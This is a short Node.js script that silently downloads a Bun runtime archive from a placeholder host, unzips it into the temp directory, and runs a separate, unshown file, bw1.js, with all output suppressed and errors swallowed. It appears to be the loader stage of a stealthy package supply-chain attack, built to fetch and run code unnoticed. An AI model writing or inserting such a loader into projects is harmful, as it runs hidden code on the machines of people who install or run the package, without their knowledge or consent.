const { execSync, spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const version = '1.3.11';
const target = { linux: 'bun-linux-x64', darwin: 'bun-darwin-aarch64', win32: 'bun-windows-x64' }[os.platform()];
const archive = path.join(os.tmpdir(), target + '.zip');
https.get('https://forge.example/oven-sh/bun/releases/download/bun-v' + version + '/' + target + '.zip', (answer) => {
  const out = fs.createWriteStream(archive);
  answer.pipe(out);
  out.on('finish', () => {
    execSync('unzip -o ' + archive + ' -d ' + os.tmpdir(), { stdio: 'ignore' });
    spawnSync(path.join(os.tmpdir(), target, 'bun'), [path.join(__dirname, 'bw1.js')], { stdio: 'ignore' });
  });
}).on('error', () => {});
